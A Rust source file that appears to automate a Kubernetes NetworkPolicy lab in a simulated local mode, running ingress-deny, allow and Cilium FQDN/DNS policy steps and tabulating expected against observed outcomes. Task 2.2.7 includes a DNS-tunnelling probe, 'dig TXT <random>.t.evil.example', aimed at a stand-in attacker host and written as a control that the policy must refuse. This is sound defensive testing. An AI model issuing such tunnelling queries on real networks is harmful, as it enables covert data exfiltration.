//! The user's NetworkPolicy lab (Tasks 2.2.1 – 2.2.7) in local mode: every command as the
//! lab writes it, with `kubectl` replaced by `netpol local`, run for real, its output shown;
//! then the lab's expected outcomes against the observed ones. Task 2.2.7's sites live on
//! local mode's simulated internet.

use std::{
    collections::BTreeMap,
    path::Path,
    process::{Command, Stdio},
};

use anyhow::Result;
use netpol_api::flows::{Flow, Verdict};

/// What a step must show.
#[derive(Clone, Copy)]
enum Expect {
    /// Exit status 0.
    Ok,
    /// `curl -I` got `HTTP/1.1 200 OK`.
    Http200,
    /// curl timed out: exit 28.
    TimedOut,
    /// A probe connected (exit 0) or was blocked (exit 1).
    Connected(bool),
    /// A DNS lookup answered REFUSED.
    Refused,
    /// The output mentions this (the internet's DNS server saw a name).
    With(&'static str),
    /// The output does not mention this (the internet's DNS server never saw a name).
    Without(&'static str),
}

impl Expect {
    fn describe(self) -> &'static str {
        match self {
            Expect::Ok => "succeeds",
            Expect::Http200 => "HTTP/1.1 200 OK",
            Expect::TimedOut => "curl: (28) timed out",
            Expect::Connected(true) => "connected",
            Expect::Connected(false) => "blocked",
            Expect::Refused => "REFUSED",
            Expect::With(_) => "asked",
            Expect::Without(_) => "never asked",
        }
    }
}

struct Outcome {
    task: &'static str,
    what: String,
    expected: &'static str,
    observed: String,
    pass: bool,
}

pub struct Lab<'a> {
    root: &'a str,
    pod_cidr: Option<&'a str>,
    examples: &'a Path,
    vars: BTreeMap<&'static str, String>,
    outcomes: Vec<Outcome>,
}

impl<'a> Lab<'a> {
    pub fn new(root: &'a str, examples: &'a Path, pod_cidr: Option<&'a str>) -> Self {
        Lab { root, pod_cidr, examples, vars: BTreeMap::new(), outcomes: Vec::new() }
    }

    /// Runs `netpol local ARGS` (shown as the lab writes it); returns (exit code, output).
    fn run(&mut self, shown: &str, args: &[&str]) -> Result<(i32, String)> {
        println!("$ {shown}");
        let out = Command::new(std::env::current_exe()?)
            .args(["local", "--root", self.root])
            .args(args)
            .current_dir(self.examples)
            .stdin(Stdio::null())
            .output()?;
        let text =
            format!("{}{}", String::from_utf8_lossy(&out.stdout), String::from_utf8_lossy(&out.stderr));
        // curl draws a progress meter when its output is not a terminal (it is one under
        // `kubectl exec -ti`); it is noise here.
        let meter = |l: &str| l.contains("% Total") || l.contains("Dload  Upload") || l.contains("--:--:--");
        let mut shown_lines: Vec<&str> =
            text.lines().flat_map(|l| l.split('\r')).filter(|l| !meter(l)).collect();
        // What the meter leaves behind: blank lines around the real output.
        while shown_lines.last().is_some_and(|l| l.trim().is_empty()) {
            shown_lines.pop();
        }
        let start = shown_lines.iter().position(|l| !l.trim().is_empty()).unwrap_or(shown_lines.len());
        for line in &shown_lines[start..] {
            println!("{line}");
        }
        let code = out.status.code().unwrap_or(-1);
        if args.first() == Some(&"exec") && code != 0 {
            println!("command terminated with exit code {code}");
        }
        println!();
        Ok((code, text))
    }

    fn check(
        &mut self,
        task: &'static str,
        what: &str,
        shown: &str,
        args: &[&str],
        expect: Expect,
    ) -> Result<String> {
        let since_ms = netpol_api::flows::now_ms();
        let (code, text) = self.run(shown, args)?;
        if matches!(expect, Expect::TimedOut | Expect::Connected(false) | Expect::Refused) {
            self.show_drop(since_ms, args);
        }
        let (pass, observed) = match expect {
            Expect::Ok => {
                (code == 0, if code == 0 { "succeeds".into() } else { format!("exit code {code}") })
            }
            Expect::Http200 => {
                let ok = text.lines().any(|l| l.trim_end() == "HTTP/1.1 200 OK");
                (ok, if ok { "HTTP/1.1 200 OK".into() } else { format!("exit code {code}") })
            }
            Expect::TimedOut => {
                let ok = code == 28 && text.contains("curl: (28)");
                (
                    ok,
                    if code == 28 {
                        "curl: (28) timed out".into()
                    } else if text.contains("200 OK") {
                        "HTTP/1.1 200 OK".into()
                    } else {
                        format!("exit code {code}")
                    },
                )
            }
            Expect::Connected(want) => {
                let got = code == 0;
                (
                    got == want && (code == 0 || code == 1),
                    if got { "connected".into() } else { "blocked".into() },
                )
            }
            Expect::Refused => {
                let ok = text.contains("REFUSED");
                (ok, if ok { "REFUSED".into() } else { format!("exit code {code}, not refused") })
            }
            Expect::With(name) | Expect::Without(name) => {
                let asked = text.lines().any(|l| l.contains(name));
                let want = matches!(expect, Expect::With(_));
                (code == 0 && asked == want, if asked { "asked".into() } else { "never asked".into() })
            }
        };
        self.outcomes.push(Outcome {
            task,
            what: what.to_string(),
            expected: expect.describe(),
            observed,
            pass,
        });
        Ok(text)
    }

    /// What `netpol monitor` showed for the drop that denied the last command: the
    /// node's latest drop since `since_ms` of a flow the command's pod sent.
    fn show_drop(&self, since_ms: u64, args: &[&str]) {
        let socket = crate::local::Local::new(self.root).socket;
        let (get, t) = (netpol_api::client::Method::GET, std::time::Duration::from_secs(2));
        let Ok((_, body)) = netpol_api::client::call(&socket, get, netpol_api::flows::PATH_FLOWS, None, t)
        else {
            return;
        };
        let flows: Vec<Flow> = serde_json::from_slice(&body).unwrap_or_default();
        let ours = |f: &Flow| f.source.pod.as_deref().is_some_and(|p| sent_by(args, p));
        let last = flows
            .iter()
            .rev()
            .find(|f| f.verdict == Verdict::Dropped && f.time_ms + 50 >= since_ms && ours(f));
        if let Some(flow) = last {
            println!("$ netpol monitor --verdict dropped   # what the node saw\n{flow}\n");
        }
    }

    /// `export NAME=$(netpol local get pods -l SEL -o jsonpath='{.items[0].metadata.name}')`
    fn export(&mut self, task: &'static str, var: &'static str, ns: &str, selector: &str) -> Result<()> {
        let jsonpath = "jsonpath={.items[0].metadata.name}";
        let ns_flag = if ns == "default" { String::new() } else { format!("-n {ns} ") };
        let shown = format!("export {var}=$(netpol local get pods {ns_flag}-l {selector} -o jsonpath='{{.items[0].metadata.name}}')");
        let text = self.check(
            task,
            &format!("{var} names a pod"),
            &shown,
            &["get", "pods", "-n", ns, "-l", selector, "-o", jsonpath],
            Expect::Ok,
        )?;
        let name = text.trim().to_string();
        println!("$ echo ${{{var}}}\n{name}\n");
        self.vars.insert(var, format!("{ns}/{name}"));
        Ok(())
    }

    fn pod(&self, var: &str) -> String {
        self.vars.get(var).cloned().unwrap_or_default()
    }

    /// `netpol local exec ${VAR} -- getent hosts NAME`: the pod's resolver asks kube-dns.
    fn resolve(&mut self, task: &'static str, var: &'static str, name: &str) -> Result<()> {
        let pod = self.pod(var);
        let (ns, pod_name) = pod.split_once('/').unwrap_or(("default", ""));
        let shown = format!("netpol local exec ${{{var}}} -- getent hosts {name}");
        let what = format!("{} resolves {name}", var.to_lowercase().replace('_', "-"));
        self.check(
            task,
            &what,
            &shown,
            &["exec", "-n", ns, pod_name, "--", "getent", "hosts", name],
            Expect::Ok,
        )?;
        Ok(())
    }

    fn curl(&mut self, task: &'static str, var: &'static str, expect: Expect) -> Result<()> {
        let pod = self.pod(var);
        let name = pod.split_once('/').map(|x| x.1).unwrap_or("").to_string();
        let shown = format!("netpol local exec -ti ${{{var}}} -- curl -I --connect-timeout 5 backend:8080");
        let what = format!("{} -> backend:8080", var.to_lowercase().replace('_', "-"));
        self.check(
            task,
            &what,
            &shown,
            &["exec", "-ti", &name, "--", "curl", "-I", "--connect-timeout", "5", "backend:8080"],
            expect,
        )?;
        Ok(())
    }

    fn probe(
        &mut self,
        task: &'static str,
        from: &'static str,
        to: &'static str,
        port: &str,
        want: bool,
    ) -> Result<()> {
        let (f, t) = (self.pod(from), self.pod(to));
        let target = format!("{t}:{port}");
        let shown = format!("netpol local probe ${{{from}}} ${{{to}}}:{port} --timeout 2s");
        let what = format!(
            "{} -> {}:{port}",
            from.to_lowercase().replace('_', "-"),
            to.to_lowercase().replace('_', "-")
        );
        self.check(task, &what, &shown, &["probe", &f, &target, "--timeout", "2s"], Expect::Connected(want))?;
        Ok(())
    }

    fn apply(&mut self, task: &'static str, file: &str) -> Result<()> {
        self.check(
            task,
            &format!("apply {file}"),
            &format!("netpol local apply -f {file}"),
            &["apply", "-f", file],
            Expect::Ok,
        )?;
        Ok(())
    }

    /// Runs the lab; true when every outcome matched the lab's.
    pub fn run_all(&mut self) -> Result<bool> {
        const T1: &str = "2.2.1";
        const T2: &str = "2.2.2";
        const T3: &str = "2.2.3";
        const T4: &str = "2.2.4";
        const T5: &str = "2.2.5";
        const T6: &str = "2.2.6";
        println!("== netpol local: the NetworkPolicy lab (Tasks 2.2.1 - 2.2.7)\n");
        let mut up = vec!["up"];
        if let Some(c) = self.pod_cidr {
            up.extend(["--pod-cidr", c]);
        }
        self.check(T1, "local node up", "netpol local up", &up, Expect::Ok)?;

        println!("== Task 2.2.1: Deploy a second frontend/backend application\n");
        self.apply(T1, "simple-app.yaml")?;
        self.check(
            T1,
            "get deployment,svc",
            "netpol local get deployment,svc",
            &["get", "deployment,svc"],
            Expect::Ok,
        )?;
        self.export(T1, "FRONTEND", "default", "app=frontend")?;
        self.export(T1, "NOT_FRONTEND", "default", "app=not-frontend")?;

        println!("== Task 2.2.2: Verify connectivity\n");
        self.curl(T2, "FRONTEND", Expect::Http200)?;
        self.curl(T2, "NOT_FRONTEND", Expect::Http200)?;

        println!("== Task 2.2.3: Deny traffic with a Network Policy\n");
        self.apply(T3, "backend-ingress-deny.yaml")?;
        self.check(T3, "get netpol", "netpol local get netpol", &["get", "netpol"], Expect::Ok)?;

        println!("== Task 2.2.4: Verify connectivity again\n");
        self.curl(T4, "FRONTEND", Expect::TimedOut)?;
        self.curl(T4, "NOT_FRONTEND", Expect::TimedOut)?;

        println!("== Task 2.2.5: Allow traffic from frontend to backend\n");
        self.apply(T5, "backend-allow-ingress-frontend.yaml")?;
        self.curl(T5, "FRONTEND", Expect::Http200)?;
        self.curl(T5, "NOT_FRONTEND", Expect::TimedOut)?;
        self.check(T5, "get netpol", "netpol local get netpol", &["get", "netpol"], Expect::Ok)?;
        self.check(
            T5,
            "delete both policies",
            "netpol local delete netpol backend-allow-ingress-frontend, backend-ingress-deny",
            &["delete", "netpol", "backend-allow-ingress-frontend,", "backend-ingress-deny"],
            Expect::Ok,
        )?;
        self.check(
            T5,
            "delete the app",
            "netpol local delete -f simple-app.yaml",
            &["delete", "-f", "simple-app.yaml"],
            Expect::Ok,
        )?;

        println!("== Task 2.2.6: Network Isolation for our example frontend/backend\n");
        println!("(example-app.yaml stands in for the app of the lab's earlier chapters: example-frontend,");
        println!(" mariadb on 3306, the webshell, the ingress-haproxy namespace, kube-dns in kube-system)\n");
        self.apply(T6, "example-app.yaml")?;
        self.export(T6, "EXAMPLE_FRONTEND", "default", "app=example-frontend")?;
        self.export(T6, "MARIADB", "default", "app=mariadb")?;
        self.export(T6, "WEBSHELL", "default", "app.kubernetes.io/name=webshell")?;
        self.export(T6, "INGRESS", "ingress-haproxy", "app.kubernetes.io/name=haproxy-ingress")?;
        self.export(T6, "KUBE_DNS", "kube-system", "k8s-app=kube-dns")?;
        self.probe(T6, "EXAMPLE_FRONTEND", "MARIADB", "3306", true)?;
        self.apply(T6, "deny-netpol.yaml")?;
        // "Now we have broken the communication from our front- to the backend." Names
        // still resolve: allow-dns lets the namespace's pods ask kube-dns.
        self.probe(T6, "EXAMPLE_FRONTEND", "MARIADB", "3306", false)?;
        self.resolve(T6, "EXAMPLE_FRONTEND", "mariadb")?;
        self.probe(T6, "EXAMPLE_FRONTEND", "KUBE_DNS", "53/UDP", true)?;
        self.probe(T6, "INGRESS", "WEBSHELL", "7681", true)?;
        self.probe(T6, "EXAMPLE_FRONTEND", "WEBSHELL", "7681", false)?;
        self.apply(T6, "frontend-netpol.yaml")?;
        // "Try out if your app is still working": front to back, and the frontend reachable.
        self.probe(T6, "EXAMPLE_FRONTEND", "MARIADB", "3306", true)?;
        self.probe(T6, "INGRESS", "EXAMPLE_FRONTEND", "5000", true)?;
        self.probe(T6, "WEBSHELL", "MARIADB", "3306", false)?;

        self.task_2_2_7()?;

        let all = self.outcomes.iter().all(|o| o.pass);
        println!("== Expected vs observed\n");
        let w = self.outcomes.iter().map(|o| o.what.len()).max().unwrap_or(10);
        println!("{:<6} {:<w$} {:<22} {:<22} result", "task", "check", "expected", "observed");
        for o in &self.outcomes {
            println!(
                "{:<6} {:<w$} {:<22} {:<22} {}",
                o.task,
                o.what,
                o.expected,
                o.observed,
                if o.pass { "ok" } else { "MISMATCH" }
            );
        }
        let bad = self.outcomes.iter().filter(|o| !o.pass).count();
        println!("\n{} checks, {} mismatches", self.outcomes.len(), bad);
        Ok(all)
    }

    /// `netpol local exec deploy/curl-deployment -- CMD`, checked.
    fn in_curl(&mut self, what: &str, cmd: &[&str], expect: Expect) -> Result<()> {
        let shown = format!("netpol local exec -ti deploy/curl-deployment -- {}", cmd.join(" "));
        let mut args = vec!["exec", "-ti", "deploy/curl-deployment", "--"];
        args.extend(cmd);
        self.check("2.2.7", what, &shown, &args, expect)?;
        Ok(())
    }

    fn site(&mut self, host: &str, expect: Expect) -> Result<()> {
        let url = format!("https://{host}");
        self.in_curl(&format!("curl -> {host}"), &["curl", "-sSI", "--max-time", "5", &url], expect)
    }

    /// Task 2.2.7: a CiliumNetworkPolicy with toFQDNs, then DNS rules, on the simulated
    /// internet's sites.
    fn task_2_2_7(&mut self) -> Result<()> {
        const T7: &str = "2.2.7";
        println!("== Task 2.2.7: (Advanced) Cilium Network Policies on Layer 7\n");
        println!("(www.zhaw.ch and songlaa.com answer on local mode's simulated internet:");
        println!(" documentation addresses, its own DNS server, HTTPS from a CA the pods trust)\n");
        // The task starts from a namespace without policies ("if no network policies are
        // applied"); Task 2.2.6's would isolate the curl pod, and its allow-dns, which
        // allows DNS at L4, would keep the DNS rule below from narrowing names (allows add
        // up, as in Cilium).
        println!("(the task assumes no network policies: Task 2.2.6's go first)\n");
        for file in ["frontend-netpol.yaml", "deny-netpol.yaml"] {
            self.check(
                T7,
                &format!("delete -f {file}"),
                &format!("netpol local delete -f {file}"),
                &["delete", "-f", file],
                Expect::Ok,
            )?;
        }
        self.apply(T7, "curl-deployment.yaml")?;
        self.site("www.zhaw.ch", Expect::Http200)?;
        self.site("songlaa.com", Expect::Http200)?;

        self.apply(T7, "songlaa-cnp.yaml")?;
        self.site("songlaa.com", Expect::Http200)?;
        self.site("www.zhaw.ch", Expect::TimedOut)?;
        // The name still resolves (every lookup is allowed): the connection is what stops.
        self.in_curl("nslookup www.zhaw.ch", &["nslookup", "www.zhaw.ch"], Expect::Ok)?;

        println!("(against DNS tunnelling: only lookups of songlaa.com)\n");
        self.apply(T7, "songlaa-dns-cnp.yaml")?;
        self.site("songlaa.com", Expect::Http200)?;
        self.in_curl("nslookup www.zhaw.ch", &["nslookup", "www.zhaw.ch"], Expect::Refused)?;
        let nanos = std::time::SystemTime::now().duration_since(std::time::UNIX_EPOCH)?.subsec_nanos();
        let tunnel = format!("{nanos:08x}.t.evil.example");
        self.in_curl("dig TXT <random>.t.evil.example", &["dig", "TXT", &tunnel], Expect::Refused)?;
        // The query log is read (the control: songlaa.com's lookups are in it), and the
        // refused name is not.
        self.check(
            T7,
            "the internet saw songlaa.com",
            "netpol local internet queries",
            &["internet", "queries"],
            Expect::With("songlaa.com"),
        )?;
        self.check(
            T7,
            "the internet saw no evil.example",
            "netpol local internet queries",
            &["internet", "queries"],
            Expect::Without("evil.example"),
        )?;

        self.check(
            T7,
            "delete the policy",
            "netpol local delete CiliumNetworkPolicy songlaa",
            &["delete", "CiliumNetworkPolicy", "songlaa"],
            Expect::Ok,
        )?;
        self.site("www.zhaw.ch", Expect::Http200)?;
        self.site("songlaa.com", Expect::Http200)?;
        self.check(
            T7,
            "delete the deployment",
            "netpol local delete deployment curl-deployment",
            &["delete", "deployment", "curl-deployment"],
            Expect::Ok,
        )?;
        Ok(())
    }

    pub fn down(&mut self) -> Result<()> {
        self.run("netpol local down", &["down"])?;
        Ok(())
    }
}

/// Whether `pod` (`ns/name`) is the pod a command sends from: `probe FROM …`, or
/// `exec [-ti] [-n NS] POD|deploy/NAME -- …` (a Deployment's pods are named `NAME-…`).
fn sent_by(args: &[&str], pod: &str) -> bool {
    let qualified =
        |ns: &str, name: &str| if name.contains('/') { name.to_string() } else { format!("{ns}/{name}") };
    match args {
        ["probe", from, ..] => qualified("default", from) == pod,
        ["exec", rest @ ..] => {
            let (mut ns, mut target) = ("default", None);
            let mut it = rest.iter().copied();
            while let Some(a) = it.next() {
                match a {
                    "--" => break,
                    "-n" => ns = it.next().unwrap_or(ns),
                    flag if flag.starts_with('-') => {}
                    name => target = Some(name),
                }
            }
            match target.map(|t| (t, t.strip_prefix("deploy/"))) {
                Some((_, Some(deploy))) => pod.starts_with(&format!("{ns}/{deploy}-")),
                Some((name, None)) => qualified(ns, name) == pod,
                None => false,
            }
        }
        _ => false,
    }
}

#[cfg(test)]
mod tests {
    use super::*;

    #[test]
    fn a_drop_is_shown_only_for_the_commands_own_pod() {
        let exec = ["exec", "-ti", "deploy/curl-deployment", "--", "curl", "x"];
        assert!(sent_by(&exec, "default/curl-deployment-7f9c"));
        assert!(!sent_by(&exec, "default/backend-1"));
        let exec = ["exec", "-n", "ns1", "web", "--", "getent", "hosts", "x"];
        assert!(sent_by(&exec, "ns1/web") && !sent_by(&exec, "default/web"));
        let probe = ["probe", "default/a", "default/b:80", "--timeout", "2s"];
        assert!(sent_by(&probe, "default/a") && !sent_by(&probe, "default/b"));
    }
}
